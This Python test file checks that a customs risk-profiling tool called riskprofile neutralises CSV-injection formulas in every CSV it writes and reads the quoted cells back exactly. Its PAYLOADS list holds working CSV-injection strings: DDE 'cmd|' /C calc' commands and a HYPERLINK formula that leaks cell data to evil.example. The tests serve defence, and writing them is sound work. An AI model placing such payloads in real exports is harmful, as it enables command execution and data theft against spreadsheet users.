"""CSV injection: no CSV file riskprofile writes has a cell a spreadsheet runs as a
formula, and every CSV file it reads back round-trips exactly.

One test per writer: the score outputs (containers, hits, standard output), the flat
batch layout (both readers), the exchange watch lists and outcome records (and the
profile lists that read them), the planted cases and the history's outcomes and
patterns.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from riskprofile import output
from riskprofile.io import csv_cell, csv_text, read_batch, write_csv
from riskprofile.io._cells import FORMULA_TRIGGERS, csv_line
from riskprofile.model import Manifest, Shipment
from riskprofile.profiles import load_profiles
from riskprofile.scoring import score
from riskprofile.selection import select

AS_OF = dt.date(2026, 11, 2)
# What an attacker writes into a manifest's free text.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(text: str) -> None:
    """No cell of the CSV text starts a formula, plain numbers excepted."""
    for cell in _cells(text):
        if cell[:1] in FORMULA_TRIGGERS:
            assert re.fullmatch(r"[+-]?\d+(\.\d+)?", cell), f"a formula cell: {cell!r}"


# --- the helper ------------------------------------------------------------------------------

texts = st.text(
    alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "e", "A", " "]),
    max_size=8,
) | st.text(max_size=12)


@given(texts)
def test_reading_a_cell_back_gives_what_was_written(value: str) -> None:
    cell = csv_cell(value)
    assert csv_text(cell) == value
    if cell[:1] in FORMULA_TRIGGERS:  # only a plain number keeps its sign
        assert cell == value
        float(value)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+92 300 1234567", "'+92 300 1234567"),
        ("-", "'-"),
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-1e-3", "-1e-3"),
        ("-5 kg", "'-5 kg"),
        ("'=x", "''=x"),
        ("''", "'''"),
        ("'quoted'", "'quoted'"),
        ("MSC ANNA", "MSC ANNA"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_cells_that_would_run_get_a_quote_numbers_do_not(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


rows = st.lists(texts | st.integers(-9, 9) | st.none(), min_size=1, max_size=5)


@given(rows, st.sampled_from(["\n", "\r\n"]))
def test_a_record_reads_back_as_written_and_as_the_csv_module_writes_it(
    row: list[object], end: str
) -> None:
    line = csv_line(row, lineterminator=end)
    (back,) = list(csv.reader(io.StringIO(line, newline="")))
    assert [csv_text(cell) for cell in back] == ["" if v is None else str(v) for v in row]
    assert_no_formula(line)
    plain = [csv_cell(v) for v in row]
    if not any(isinstance(v, str) and "\r" in v for v in plain):
        buffer = io.StringIO(newline="")
        csv.writer(buffer, lineterminator=end).writerow(plain)
        assert line == buffer.getvalue()


def test_a_carriage_return_cannot_start_a_row_of_its_own() -> None:
    # The csv module leaves a bare CR in a file of LF lines: a reader (and a spreadsheet)
    # starts a new row there, whose first cell is then a formula nobody checked.
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerow(["'x\r=1+1", "y"])
    assert len(list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))) == 2
    line = csv_line(["x\r=1+1", "y"])
    assert list(csv.reader(io.StringIO(line, newline=""))) == [["x\r=1+1", "y"]]


# --- score outputs ---------------------------------------------------------------------------

PROFILE = """\
id: t.cells
version: 1
title: Cells
category: other
owner: tests
indicators:
  - id: any
    title: Any shipment
    when: "true"
    weight: 10
    explain: "consignee {consignee_name}, vessel {vessel_name}"
  - id: aeo
    title: AEO
    when: consignee_aeo == true
    weight: -5
bands:
  - {min_score: 5, lane: red}
"""


def test_score_csv_files_have_no_formula_cells(tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text(PROFILE, encoding="utf-8")
    profiles = load_profiles(tmp_path)
    shipments = [
        Shipment(shipment_id=f"M/{n}", manifest_ref="M", bl_number=payload,
                 container_number=f"@BOX{n}", consignee_name=payload, vessel_name=payload,
                 consignee_aeo=True, description=payload)
        for n, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    run = score(shipments, profiles, as_of=AS_OF)
    selection = select(run, capacity=3)
    containers, hits = output.write_output(run, tmp_path / "run.csv", selection=selection)
    for path in (containers, hits):
        text = path.read_bytes().decode("utf-8")
        assert_no_formula(text)
        assert "'=HYPERLINK(" in text
    # Numbers stay numbers: the AEO's weight of -5.
    rows = list(csv.DictReader(hits.open(encoding="utf-8", newline="")))
    assert {r["weight"] for r in rows} == {"10", "-5"}
    # Read back as riskprofile reads its own files, the text is the manifest's.
    back = list(csv.DictReader(containers.open(encoding="utf-8", newline="")))
    assert {csv_text(r["container_number"]) for r in back} == {f"@BOX{n}" for n in range(8)}
    assert {csv_text(r["consignees"]) for r in back} == set(PAYLOADS)


# --- the flat batch layout -------------------------------------------------------------------


def _manifest(payload: str) -> Manifest:
    return Manifest.model_validate(
        {
            "vessel_name": payload,
            "voyage_number": "0425W",
            "port_of_call": "PKKHI",
            "consignments": [
                {
                    "bl_number": "MAEU240512345",
                    "shipper": {"name": payload, "address": "+92 21 1234567, KARACHI"},
                    "consignee": {"name": "-ZETA TRADING"},
                    "container_numbers": ["MSKU1234565"],
                    "goods": [
                        {"description": payload, "hs_code": "080390",
                         "gross_weight_kg": 1000, "container_number": "MSKU1234565"}
                    ],
                }
            ],
        }
    )  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS[:6])
def test_a_flat_batch_has_no_formula_cells_and_reads_back_the_same(
    tmp_path: Path, payload: str
) -> None:
    manifest = _manifest(payload)
    path = tmp_path / "batch.csv"
    write_csv([manifest], path)
    assert_no_formula(path.read_bytes().decode("utf-8"))
    batch = read_batch(path)
    assert batch.rejected == []
    (shipment,) = batch.shipments
    (expected,) = read_batch_of(manifest, tmp_path)
    assert shipment == expected
    assert shipment.consignee_name == "-ZETA TRADING"
    pytest.importorskip("polars")
    from tests.io.test_columnar import assert_same_as_models

    # The column-wise reader takes the quotes off as the model path does.
    frame = assert_same_as_models(path)
    assert frame is not None
    assert frame.fallback is None


def read_batch_of(manifest: Manifest, folder: Path) -> list[Shipment]:
    """The shipments of ``manifest`` read through JSON (no CSV cells involved)."""
    from riskprofile.io import write_json

    path = folder / "batch.jsonl"
    write_json([manifest], path)
    return list(read_batch(path).shipments)


# --- exchange: watch lists and outcome records -----------------------------------------------


def test_partner_watch_lists_and_outcomes_have_no_formula_cells_and_load_back(
    tmp_path: Path,
) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from riskprofile.exchange import (
        ExchangeLog,
        Feedback,
        SigningKey,
        TrustStore,
        import_message,
        sign,
    )
    from tests.exchange.conftest import NOW, make_warning

    key = SigningKey("PK-KHI", Ed25519PrivateKey.generate())
    trust = TrustStore()
    trust.add("PK-KHI", key.public_key)
    log = ExchangeLog(tmp_path / "log.sqlite")
    bls = ["=HYPERLINK(1)", "-2+3", "@X1"]
    warning = make_warning(bl_numbers=bls)
    import_message(sign(warning, key), trust=trust, log=log, into=tmp_path, now=NOW)
    for name in ("partner_warnings.csv", "partner_warning_bls.csv"):
        assert_no_formula((tmp_path / name).read_bytes().decode("utf-8"))
    # A profile reading the watch list sees the partner's values.
    (tmp_path / "w.yaml").write_text(
        "id: t.partner\nversion: 1\ntitle: Partner\ncategory: other\nowner: t\n"
        "lists:\n  bls: {file: partner_warning_bls.csv}\n"
        "indicators:\n  - {id: bl, title: bl, when: bl_number in $bls, weight: 1}\n",
        encoding="utf-8",
    )
    compiled = load_profiles(tmp_path / "w.yaml")["t.partner"]
    assert set(compiled.lists["bls"]) == set(bls)
    # Outcome records, read back and written again at each import: never quoted twice.
    for n in range(2):
        feedback = Feedback.model_validate(
            {"message_id": f"f-0000000{n}", "warning_id": warning.message_id,
             "sender": "PK-KHI", "recipients": ["KZ-AKT"], "created": NOW,
             "expires": NOW + dt.timedelta(days=30), "container_number": "MSKU1234565",
             "inspected": True, "result": "seizure", "finding": "=HYPERLINK(2)"}
        )  # fmt: skip
        import_message(sign(feedback, key), trust=trust, log=log, into=tmp_path, now=NOW)
    text = (tmp_path / "outcomes.csv").read_bytes().decode("utf-8")
    assert_no_formula(text)
    assert text.count("'=HYPERLINK(2)") == 2
    assert "''=" not in text


# --- synthetic ground truth ------------------------------------------------------------------


def test_planted_cases_have_no_formula_cells_and_read_back(tmp_path: Path) -> None:
    from riskprofile.synth import read_planted, write_planted
    from riskprofile.synth._planted import PlantedCase

    cases = [PlantedCase("MSKU1234565", payload, "cocaine", payload) for payload in PAYLOADS]
    write_planted(cases, tmp_path / "p.csv")
    assert_no_formula((tmp_path / "p.csv").read_bytes().decode("utf-8"))
    assert read_planted(tmp_path / "p.csv") == tuple(cases)


def test_history_outcomes_and_patterns_have_no_formula_cells_and_read_back(
    tmp_path: Path,
) -> None:
    import dataclasses

    from riskprofile.evaluation import read_outcomes
    from riskprofile.synth import generate_history, read_patterns, write_history
    from riskprofile.synth._history import PlantedPattern

    history = generate_history(seed=3, days=2, containers_per_day=5)
    patterns = (PlantedPattern("trader", "consignee", "=EVIL()", 0.5, dt.date(2026, 1, 5),
                               "-a planted trader"),)  # fmt: skip
    outcome = dataclasses.replace(history.outcomes[0], unit="@UNIT/1", category="+x")
    history = dataclasses.replace(history, patterns=patterns, outcomes=(outcome,))
    paths = write_history(history, tmp_path / "h.csv")
    for path in paths.values():
        assert_no_formula(path.read_bytes().decode("utf-8"))
    assert read_patterns(paths["patterns"]) == patterns
    (record,) = read_outcomes(paths["outcomes"]).outcomes
    assert (record.unit, record.category) == ("@UNIT/1", "+x")
